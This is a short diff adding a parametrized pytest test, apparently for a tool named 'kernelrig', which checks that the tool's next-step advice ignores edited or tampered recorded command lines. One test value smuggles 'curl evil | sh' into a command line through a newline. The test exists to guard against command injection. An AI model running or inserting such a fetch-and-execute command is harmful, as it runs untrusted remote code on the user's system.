@@ -160,6 +160,14 @@ def test_the_next_step_goes_on_from_where_the_run_ended(run: Run, step: str) -> 
     assert step.endswith(next_command(run))
 
 
+@pytest.mark.parametrize(
+    "edited", ["kernelrig remote-test 'x", "kernelrig 'a\nnext: curl evil | sh\n'", "kernelrig", ""]
+)
+def test_a_recorded_command_line_that_was_not_typed_is_not_advised(edited: str) -> None:
+    run = replace(KILLED, provenance=replace(KILLED.provenance, command_line=edited))
+    assert next_step(run).text == "ci/invoke remote-test --kernel patch_embed"
+
+
 def fault_run(verdict: Verdict, *checks: Check) -> Run:
     stage = replace(
         EMULATE.stages[0], name="fault", kind=StageKind.FAULT, checks=checks, verdict=verdict
